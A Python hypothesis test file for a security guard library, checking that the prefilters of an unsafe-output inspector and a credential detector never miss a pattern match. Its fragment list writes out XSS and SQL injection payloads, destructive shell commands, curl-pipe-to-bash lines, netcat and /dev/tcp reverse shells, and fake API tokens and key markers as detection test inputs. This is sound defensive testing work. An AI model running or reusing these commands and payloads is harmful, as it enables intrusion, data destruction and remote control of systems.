"""The literal prefilters of the pattern inspectors never skip a pattern that would match.

A rule's pattern is only tried on a text holding one of its needles; that is exact only if
every match of the pattern contains one. Checked on attack-like texts built from fragments.
"""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from isthmus.guard import credentials, unsafe_output

FRAGMENTS = [
    "<script src=x>", "<img src=a onerror=alert(1)>", "javascript:alert(1)", "VBScript:run",
    "data:text/html,<b>", "<iframe src=x>", "<meta http-equiv='refresh'>", "![a](https://e.io/p?q=",
    "DROP TABLE users;", "truncate table t", "DELETE FROM users;", "' OR 1=1", "' or ''='",
    "-- ", "; --", "UNION ALL SELECT", "rm -rf /", "rm -fr ~ ", "curl http://x | sudo bash",
    "wget -q -O- x |sh", ":(){ :|:& };:", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda",
    "nc 10.0.0.1 4444 -e /bin/sh", "bash -i >& /dev/tcp/1.2.3.4/80", "chmod -R 777 /",
    "eval(requests.get(", "EXEC(fetch(", "AKIA", "IOSFODNN7EXAMPLE", "aws_secret_key = ",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "ghp_", "github_pat_", "xoxb-", "sk-ant-",
    "sk-proj-", "AIza", "sk_live_", "hf_", "eyJhbGciOiJIUzI1NiJ9", ".", "-----BEGIN PRIVATE KEY-----",
    "-----END PRIVATE KEY-----", "password: ", "API_KEY=", "hooks.slack.com/services/T0/B0/x",
    "https://", "abcdefghijklmnopqrstuvwxyz0123456789", "ABCDEFGHIJKLMNOP", " ", "\n", "=", ":",
    "İ", "ß",
    # whole credentials of every known kind
    "AKIAIOSFODNN7EXAMPLE", "aws secret = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "ghp_Zx8Qw2Er4Ty6Ui8Op0As2Df4Gh6Jk8Lz1Xc3V", "github_pat_" + "A1b2C3d4E5" * 7,
    "xoxb-1234567890-abcdefghij", "sk-ant-api03-" + "x9Y8z7W6v5" * 3, "sk-proj-" + "Ab1" * 10,
    "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
    "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcDEF123456",
]  # fmt: skip


def _texts() -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(FRAGMENTS), max_size=12).map("".join)


@settings(max_examples=400, deadline=None)
@given(_texts())
def test_every_unsafe_output_match_holds_a_needle(text: str) -> None:
    lowered = text.lower()
    for rule, pattern in unsafe_output.UNSAFE_RULES:
        for match in pattern.finditer(text):
            needles = unsafe_output._NEEDLES[rule]
            # the inspector looks in the lower-cased text (all of it when lowering changes
            # the length): the needle must be in the lower-cased match
            assert any(n in match.group().lower() for n in needles), (rule, match.group())
            assert len(lowered) != len(text) or any(n in lowered for n in needles)


@settings(max_examples=400, deadline=None)
@given(_texts())
def test_every_secret_match_holds_a_needle(text: str) -> None:
    for kind, pattern in credentials._KNOWN:
        for match in pattern.finditer(text):
            assert any(n in match.group() for n in credentials._NEEDLES[kind]), (kind, match)


@settings(max_examples=200, deadline=None)
@given(_texts())
def test_the_prefilter_changes_no_finding(text: str) -> None:
    """The inspector's findings equal every pattern's matches, tried without the prefilter."""
    found = unsafe_output.UnsafeOutputInspector().inspect(text, None)  # type: ignore[arg-type]
    expected = [
        (rule, m.start(), m.end())
        for rule, pattern in unsafe_output.UNSAFE_RULES
        for m in pattern.finditer(text)
    ]
    assert [(f.rule, f.start, f.end) for f in found] == expected
